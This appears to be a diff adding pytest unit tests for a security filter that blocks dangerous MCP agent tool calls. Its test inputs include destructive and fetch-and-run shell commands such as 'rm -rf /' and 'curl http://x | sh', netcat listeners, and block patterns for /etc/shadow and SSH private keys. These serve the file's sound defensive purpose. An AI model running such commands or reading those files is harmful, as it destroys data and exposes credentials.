@@ -0,0 +1,498 @@
+#!/usr/bin/env python3
+"""Unit tests for the stdio MCP command filter.
+
+Run with: pytest tests/unit/test_mcp_command_filter.py -v
+"""
+
+import json
+import re
+import signal
+import socket
+import subprocess
+import sys
+import urllib.request
+from pathlib import Path
+
+import pytest
+
+import mcp_command_filter as mcf
+
+FILTER = Path(mcf.__file__)
+ECHO_SERVER = "import sys\nfor line in sys.stdin.buffer:\n    sys.stdout.buffer.write(line)\n    sys.stdout.buffer.flush()\n"
+
+
+def tool_call(name: str, arguments: dict, id_: int = 1) -> dict:
+    return {
+        "jsonrpc": "2.0",
+        "id": id_,
+        "method": "tools/call",
+        "params": {"name": name, "arguments": arguments},
+    }
+
+
+def first_match(patterns: list[str], text: str):
+    """Reference behaviour: rule-by-rule loop in list order."""
+    for pattern in patterns:
+        if re.search(pattern, text, re.IGNORECASE):
+            return pattern
+    return None
+
+
+class TestRuleSet:
+    """The compiled matcher must agree with a rule-by-rule loop."""
+
+    @pytest.mark.parametrize("cmd", [
+        "ls -la /workspace",
+        "rm -rf /",
+        "RM -F file",
+        "curl http://x | sh && chmod 777 /tmp",
+        "chmod 777 x; rm -rf /",
+        "nc -l 4444",
+        "echo ncat",
+        "",
+    ])
+    def test_attribution_matches_loop(self, cmd):
+        rules = mcf.RuleSet(mcf.BLOCKED_COMMAND_PATTERNS)
+        assert rules.search(cmd) == first_match(mcf.BLOCKED_COMMAND_PATTERNS, cmd)
+
+    def test_reports_first_rule_in_list_order(self):
+        # "b" matches earlier in the string, but "a" is listed first.
+        rules = mcf.RuleSet([r"a+", r"b"])
+        assert rules.search("b then aaa") == r"a+"
+
+    def test_falls_back_when_patterns_cannot_be_joined(self):
+        rules = mcf.RuleSet([r"(x)\1", r"y"])
+        assert rules.search("xx") == r"(x)\1"
+        assert rules.search("y") == r"y"
+        assert rules.search("z") is None
+
+    def test_empty(self):
+        assert mcf.RuleSet([]).search("anything") is None
+
+    @pytest.mark.parametrize("pattern,prefix", [
+        (r"rm\s+-r?f", "rm"),
+        (r"^/etc/passwd", "/etc/passwd"),
+        (r"/\.ssh/", "/.ssh/"),
+        (r"abc*", "ab"),
+        (r"a|b", ""),
+        (r"x[(]|y", ""),
+        (r"curl.*(sh|bash)", "curl"),
+        (r"(?i)abc", ""),
+    ])
+    def test_literal_prefix(self, pattern, prefix):
+        assert mcf._literal_prefix(pattern) == prefix
+
+    def test_unicode_case_folding_is_conservative(self):
+        # re.IGNORECASE matches U+017F LATIN SMALL LETTER LONG S to "s".
+        rules = mcf.RuleSet([r"ssh"])
+        text = "\u017fsh"
+        assert rules.search(text) == first_match([r"ssh"], text)
+
+
+class TestLiteralSet:
+    """Domain literals are matched case-insensitively as substrings."""
+
+    def test_shared_prefixes(self):
+        literals = mcf.LiteralSet(["bit.ly", "bit.do", "bi"])
+        assert literals.search("https://BIT.LY/x") == "bit.ly"
+        assert literals.search("https://example.com/bi") == "bi"
+        assert literals.search("https://example.com/") is None
+
+    def test_escapes_metacharacters(self):
+        literals = mcf.LiteralSet(["a.b"])
+        assert literals.search("axb") is None
+        assert literals.search("a.b") == "a.b"
+
+
+class TestFilterToolCall:
+    """Verdicts and messages are unchanged by the compiled engine."""
+
+    def test_passes_non_tool_calls(self):
+        assert mcf.filter_tool_call({"method": "tools/list", "id": 1}) is None
+
+    def test_blocks_tool_name(self):
+        resp = mcf.filter_tool_call(tool_call("shell", {}))
+        assert resp["error"]["message"] == "Tool 'shell' is blocked by security policy"
+
+    def test_blocks_command(self):
+        resp = mcf.filter_tool_call(tool_call("bash", {"command": "rm -rf /"}))
+        assert resp["error"]["message"] == r"Blocked command pattern: rm\s+-r?f"
+        assert resp["id"] == 1
+
+    def test_blocks_path(self):
+        resp = mcf.filter_tool_call(tool_call("read_file", {"path": "/home/u/.ssh/id_rsa"}))
+        assert resp["error"]["message"] == "Blocked path access: /home/u/.ssh/id_rsa"
+
+    def test_blocks_domain(self):
+        resp = mcf.filter_tool_call(tool_call("fetch", {"url": "https://PasteBin.com/raw"}))
+        assert resp["error"]["message"] == "URL domain blocked: https://PasteBin.com/raw"
+
+    def test_allows_workspace(self):
+        assert mcf.filter_tool_call(tool_call("read_file", {"path": "/workspace/a.md"})) is None
+
+    def test_security_error_carries_rule(self):
+        with pytest.raises(mcf.SecurityError) as exc:
+            mcf.check_path("/etc/shadow")
+        assert exc.value.rule == r"^/etc/shadow"
+
+
+class TestBatch:
+    """Batches are judged per element and answered as one response."""
+
+    @pytest.fixture(autouse=True)
+    def fresh_tracker(self, monkeypatch):
+        monkeypatch.setattr(mcf, "pending_batches", mcf.BatchTracker())
+
+    def test_splits_allowed_and_blocked(self):
+        ok = tool_call("read_file", {"path": "/workspace/a"}, 1)
+        bad = tool_call("bash", {"command": "rm -rf /"}, 2)
+        ping = {"jsonrpc": "2.0", "id": 3, "method": "ping"}
+        allowed, errors = mcf.filter_batch([ok, bad, ping, 42])
+        assert allowed == [ok, ping, 42]
+        assert [e["id"] for e in errors] == [2]
+
+    def test_unblocked_batch_is_forwarded_untouched(self):
+        batch = [tool_call("read_file", {"path": "/workspace/a"}, 1)]
+        assert mcf.route_batch(batch) == (batch, None)
+        assert len(mcf.pending_batches) == 0
+
+    def test_fully_blocked_batch_is_answered_directly(self):
+        forward, errors = mcf.route_batch([tool_call("shell", {}, 1), tool_call("eval", {}, 2)])
+        assert forward is None
+        assert [e["id"] for e in errors] == [1, 2]
+
+    def test_only_notifications_left(self):
+        note = {"jsonrpc": "2.0", "method": "notifications/progress"}
+        forward, errors = mcf.route_batch([note, tool_call("shell", {}, 1)])
+        assert forward == [note]
+        assert [e["id"] for e in errors] == [1]
+
+    def test_errors_merge_into_server_response(self):
+        ok = tool_call("read_file", {"path": "/workspace/a"}, "a")
+        forward, errors = mcf.route_batch([ok, tool_call("shell", {}, "b")])
+        assert forward == [ok] and errors is None
+
+        unrelated = b'{"jsonrpc":"2.0","id":9,"result":{}}'
+        response = b'[{"jsonrpc":"2.0","id":"a","result":{}}]'
+        merged = mcf.pending_batches.merge(unrelated + b"\n" + response + b"\n")
+        first, second, tail = merged.split(b"\n")
+        assert first == unrelated and tail == b""
+        assert [r["id"] for r in json.loads(second)] == ["a", "b"]
+        assert len(mcf.pending_batches) == 0
+
+    def test_filter_errors_are_answered(self):
+        forward, errors = mcf.route_batch([{"jsonrpc": "2.0", "id": 5, "method": "tools/call", "params": []}])
+        assert forward is None
+        assert errors[0]["error"]["code"] == -32600
+
+
+class TestFilterMetrics:
+    """filter_tool_call records what it decided and why."""
+
+    def test_counts_verdicts_and_rules(self):
+        m = mcf.metrics
+        before = m.blocked._values.get(("command", r"rm\s+-r?f"), 0)
+        mcf.filter_tool_call(tool_call("bash", {"command": "rm -rf /"}))
+        mcf.filter_tool_call(tool_call("read_file", {"path": "/workspace/a"}, id_=42))
+        assert m.blocked._values[("command", r"rm\s+-r?f")] == before + 1
+        assert m.tool_calls._values[("bash", "blocked")] >= 1
+        assert m.tool_calls._values[("read_file", "allowed")] >= 1
+        assert m.messages._values[("tools/call",)] >= 2
+
+    def test_times_allowed_calls_until_response(self):
+        m = mcf.metrics
+        mcf.filter_tool_call(tool_call("timed_tool", {}, id_="abc"))
+        m.calls.observe_output(b'{"jsonrpc":"2.0","id":"abc","result":{}}\n')
+        assert m.upstream_seconds._series[("timed_tool",)][2] == 1
+
+
+class TestVerdictCache:
+    """Cached verdicts must be identical to fresh evaluation."""
+
+    @pytest.fixture(autouse=True)
+    def fresh_cache(self, monkeypatch):
+        cache = mcf.VerdictCache(max_size=2)
+        monkeypatch.setattr(mcf, "verdict_cache", cache)
+        return cache
+
+    @pytest.mark.parametrize("name,arguments", [
+        ("bash", {"command": "rm -rf /"}),
+        ("bash", {"command": "ls"}),
+        ("shell", {}),
+        ("read_file", {"path": "/etc/shadow"}),
+        ("fetch", {"url": "https://bit.ly/x"}),
+    ])
+    def test_hit_matches_fresh(self, fresh_cache, name, arguments):
+        first = mcf.filter_tool_call(tool_call(name, arguments, 1))
+        second = mcf.filter_tool_call(tool_call(name, arguments, 2))
+        assert fresh_cache.hits == 1
+        fresh = mcf.evaluate_call(mcf._policy, name, arguments)
+        if fresh is None:
+            assert first is None and second is None
+        else:
+            assert second == dict(first, id=2)
+            assert second["error"]["message"] == str(fresh)
+
+    def test_ignores_uninspected_arguments(self, fresh_cache):
+        mcf.filter_tool_call(tool_call("write_file", {"path": "/workspace/a", "content": "x"}))
+        mcf.filter_tool_call(tool_call("write_file", {"path": "/workspace/a", "content": "y"}))
+        assert fresh_cache.hits == 1
+
+    def test_odd_shapes_bypass_cache(self, fresh_cache):
+        # Non-string values raise, and the proxy drops the message.
+        with pytest.raises((TypeError, AttributeError)):
+            mcf.filter_tool_call(tool_call("bash", {"command": ["rm", "-rf"]}))
+        assert fresh_cache.key("bash", {"command": None}) is None
+        assert len(fresh_cache) == 0
+
+    def test_lru_eviction(self, fresh_cache):
+        for path in ["/a", "/b", "/a", "/c"]:
+            mcf.filter_tool_call(tool_call("read_file", {"path": path}))
+        assert fresh_cache.evictions == 1
+        assert fresh_cache.key("read_file", {"path": "/a"}) in fresh_cache._entries
+        assert fresh_cache.key("read_file", {"path": "/b"}) not in fresh_cache._entries
+
+    def test_ttl_expiry(self, fresh_cache, monkeypatch):
+        fresh_cache.ttl = 10
+        now = [1000.0]
+        monkeypatch.setattr(mcf.time, "monotonic", lambda: now[0])
+        mcf.filter_tool_call(tool_call("read_file", {"path": "/a"}))
+        now[0] += 11
+        mcf.filter_tool_call(tool_call("read_file", {"path": "/a"}))
+        assert fresh_cache.expirations == 1
+        assert fresh_cache.hits == 0
+
+    def test_policy_swap_invalidates(self, fresh_cache, monkeypatch):
+        call = tool_call("read_file", {"path": "/workspace/secret"})
+        assert mcf.filter_tool_call(call) is None
+        monkeypatch.setattr(mcf, "_policy", mcf.Policy([], [r"^/workspace/secret"], set(), []))
+        assert mcf.filter_tool_call(call) is not None
+        assert fresh_cache.hits == 0
+
+
+class TestPolicyFile:
+    """External policy files replace the built-in lists."""
+
+    EXAMPLE = Path(__file__).resolve().parents[2] / "configs" / "mcp-filter-policy.example.yaml"
+
+    def test_example_matches_builtin(self):
+        policy = mcf.load_policy(str(self.EXAMPLE))
+        assert policy.commands.patterns == mcf.BLOCKED_COMMAND_PATTERNS
+        assert policy.paths.patterns == mcf.BLOCKED_PATHS
+        assert policy.tools == frozenset(mcf.BLOCKED_TOOLS)
+        assert policy.domains.literals == sorted(mcf.BLOCKED_DOMAINS)
+
+    def test_missing_sections_keep_defaults(self, tmp_path):
+        path = tmp_path / "policy.json"
+        path.write_text(json.dumps({"blocked_tools": ["write_file"]}))
+        policy = mcf.load_policy(str(path))
+        assert policy.tools == {"write_file"}
+        assert policy.paths.patterns == mcf.BLOCKED_PATHS
+
+    @pytest.mark.parametrize("content", [
+        "blocked_paths: '^/etc'",
+        "blocked_path: []",
+        "blocked_paths: ['(unclosed']",
+        "- a list",
+    ])
+    def test_rejects_bad_files(self, tmp_path, content):
+        path = tmp_path / "policy.yaml"
+        path.write_text(content)
+        with pytest.raises(mcf.PolicyError):
+            mcf.load_policy(str(path))
+
+    def test_reloader_swaps_policy(self, tmp_path, monkeypatch):
+        monkeypatch.setattr(mcf, "_policy", mcf._policy)
+        path = tmp_path / "policy.yaml"
+        path.write_text("blocked_tools: []\n")
+        reloader = mcf.PolicyReloader(str(path))
+        reloader.install(reloader.load())
+        assert mcf.filter_tool_call(tool_call("shell", {})) is None
+
+        path.write_text("blocked_tools: [shell]\n")
+        assert reloader.changed()
+        reloader.install(reloader.load())
+        assert mcf.filter_tool_call(tool_call("shell", {})) is not None
+
+        # A broken edit is reported once and the last good policy stays.
+        path.write_text("blocked_tools: [unterminated\n")
+        assert reloader.changed()
+        reloader.install(reloader.load())
+        assert not reloader.changed()
+        assert reloader.failures == 1
+        assert mcf.filter_tool_call(tool_call("shell", {})) is not None
+
+
+class TestSniffMethod:
+    """The byte-level pre-scan may only skip lines that aren't tool calls."""
+
+    @pytest.mark.parametrize("line,method", [
+        (b'{"jsonrpc":"2.0","id":1,"method":"tools/list"}', b"tools/list"),
+        (b'{"jsonrpc": "2.0", "method" : "notifications/initialized"}', b"notifications/initialized"),
+        (b'{"jsonrpc":"2.0","id":1,"result":{}}', b""),
+        (b'{"method":"tools/call","params":{}}', b"tools/call"),
+    ])
+    def test_sniffs(self, line, method):
+        assert mcf.sniff_method(line) == method
+
+    @pytest.mark.parametrize("line", [
+        # Duplicate keys: the last one wins when parsed.
+        b'{"method":"ping","method":"tools/call"}',
+        # Escaped key or value.
+        b'{"method":"ping","\\u006dethod":"tools/call"}',
+        b'{"method":"tools\\/call"}',
+        # "method" used as a string value somewhere.
+        b'{"method":"ping","params":{"name":"method"}}',
+        b'{"method":5}',
+    ])
+    def test_undecidable_lines_are_parsed(self, line):
+        assert mcf.sniff_method(line) is None
+        assert mcf.needs_inspection(line)
+
+    def test_non_ascii_escapes_stay_on_fast_path(self):
+        line = b'{"method":"resources/read","params":{"uri":"caf\\u00e9"}}'
+        assert not mcf.needs_inspection(line)
+
+    def test_str_lines(self):
+        assert mcf.sniff_method('{"method":"ping"}') == "ping"
+        assert mcf.needs_inspection('{"method":"tools/call"}')
+
+    def test_counters(self):
+        stats = mcf.fast_path_stats
+        before = (stats.fast_path, stats.parsed)
+        mcf.needs_inspection(b'{"method":"ping"}')
+        mcf.needs_inspection(b'{"method":"tools/call"}')
+        assert (stats.fast_path, stats.parsed) == (before[0] + 1, before[1] + 1)
+
+
+@pytest.mark.parametrize("flags", [
+    "--mode asyncio",
+    "--mode threaded",
+    "--mode asyncio --streaming",
+])
+class TestProxy:
+    """End-to-end through the filter process against an echo server."""
+
+    def run_filter(self, flags: str, lines: list[str]) -> list[str]:
+        # Piped through cat so stdout is a pipe, as under agentgateway.
+        proc = subprocess.run(
+            f"{sys.executable} {FILTER} {flags} {sys.executable} -c '{ECHO_SERVER}' | cat",
+            shell=True,
+            input="".join(line + "\n" for line in lines),
+            capture_output=True,
+            text=True,
+            timeout=30,
+        )
+        assert proc.returncode == 0, proc.stderr
+        return proc.stdout.splitlines()
+
+    def test_forwards_and_blocks(self, flags):
+        allowed = json.dumps(tool_call("read_file", {"path": "/workspace/a"}, 1))
+        blocked = json.dumps(tool_call("bash", {"command": "rm -rf /"}, 2))
+        listing = '{"jsonrpc":"2.0","id":3,"method":"tools/list"}'
+        out = self.run_filter(flags, [allowed, blocked, listing, "not json"])
+
+        errors = [line for line in out if '"error"' in line]
+        assert sorted(set(out) - set(errors)) == sorted([allowed, listing, "not json"])
+        assert len(errors) == 1
+        error = json.loads(errors[0])
+        assert error["id"] == 2
+        assert error["error"]["code"] == -32000
+
+    def test_batches(self, flags):
+        ok = tool_call("read_file", {"path": "/workspace/a"}, 1)
+        bad = tool_call("bash", {"command": "rm -rf /"}, 2)
+        ping = {"jsonrpc": "2.0", "id": 3, "method": "ping"}
+        # The echo server answers a batch with the batch it received.
+        out = self.run_filter(flags, [json.dumps([ok, bad, ping]), json.dumps([bad])])
+
+        assert len(out) == 2
+        merged, blocked = sorted((json.loads(line) for line in out), key=len, reverse=True)
+        assert [m["id"] for m in merged] == [1, 3, 2]
+        assert merged[:2] == [ok, ping]
+        assert merged[2]["error"]["code"] == -32000
+        assert [b["id"] for b in blocked] == [2]
+
+    def test_large_messages(self, flags):
+        content = "x" * (mcf.STREAM_THRESHOLD + 1000)
+        allowed = json.dumps(tool_call("write_file", {"content": content, "path": "/workspace/a"}, 1))
+        # Inspected field after the payload: must still be seen.
+        blocked = json.dumps(tool_call("write_file", {"content": content, "path": "/etc/passwd"}, 2))
+        out = self.run_filter(flags, [allowed, blocked])
+
+        assert allowed in out
+        errors = [json.loads(line) for line in out if line != allowed]
+        assert [e["id"] for e in errors] == [2]
+        assert errors[0]["error"]["message"] == "Blocked path access: /etc/passwd"
+
+    def test_sighup_reloads_policy(self, flags, tmp_path):
+        policy = tmp_path / "policy.yaml"
+        policy.write_text("blocked_tools: []\n")
+        proc = subprocess.Popen(
+            [sys.executable, str(FILTER), *flags.split(), "--policy", str(policy),
+             "--policy-poll-interval", "0", sys.executable, "-c", ECHO_SERVER],
+            stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
+        )
+        try:
+            call = (json.dumps(tool_call("shell", {})) + "\n").encode()
+            proc.stdin.write(call)
+            proc.stdin.flush()
+            assert proc.stdout.readline() == call
+
+            def wait_for_load():
+                for line in proc.stderr:
+                    if b"Policy loaded" in line:
+                        return
+
+            wait_for_load()  # initial load at startup
+            policy.write_text("blocked_tools: [shell]\n")
+            proc.send_signal(signal.SIGHUP)
+            wait_for_load()
+            proc.stdin.write(call)
+            proc.stdin.flush()
+            assert b"is blocked by security policy" in proc.stdout.readline()
+        finally:
+            proc.stdin.close()
+            proc.wait(timeout=10)
+
+    def test_metrics_endpoint(self, flags):
+        with socket.socket() as s:
+            s.bind(("127.0.0.1", 0))
+            port = s.getsockname()[1]
+        proc = subprocess.Popen(
+            [sys.executable, str(FILTER), *flags.split(), "--metrics-port", str(port),
+             sys.executable, "-c", ECHO_SERVER],
+            stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL,
+        )
+        try:
+            for message in (tool_call("read_file", {"path": "/workspace/a"}, 1),
+                            tool_call("bash", {"command": "rm -rf /"}, 2),
+                            {"jsonrpc": "2.0", "id": 3, "method": "ping"}):
+                proc.stdin.write((json.dumps(message) + "\n").encode())
+                proc.stdin.flush()
+                proc.stdout.readline()
+            with urllib.request.urlopen(f"http://127.0.0.1:{port}/metrics", timeout=10) as resp:
+                text = resp.read().decode()
+        finally:
+            proc.stdin.close()
+            proc.wait(timeout=10)
+
+        assert 'mcp_filter_tool_calls_total{tool="bash",verdict="blocked"} 1' in text
+        assert 'mcp_filter_blocked_total{check="command",rule="rm\\\\s+-r?f"} 1' in text
+        assert 'mcp_filter_messages_total{method="ping"} 1' in text
+        assert 'mcp_filter_tool_call_duration_seconds_count{tool="read_file"} 1' in text
+        assert 'mcp_filter_bytes_total{direction="to_server"}' in text
+
+    def test_max_message_size(self, flags):
+        if "threaded" in flags:
+            pytest.skip("threaded mode has no size limit")
+        big = json.dumps(tool_call("write_file", {"content": "x" * 5000, "path": "/workspace/a"}, 7))
+        small = '{"jsonrpc":"2.0","id":8,"method":"tools/list"}'
+        out = self.run_filter(f"{flags} --max-message-size 4096", [big, small])
+
+        assert small in out
+        errors = [json.loads(line) for line in out if line != small]
+        assert len(errors) == 1
+        assert errors[0]["error"]["code"] == -32600
+        if "--streaming" in flags:
+            assert errors[0]["id"] == 7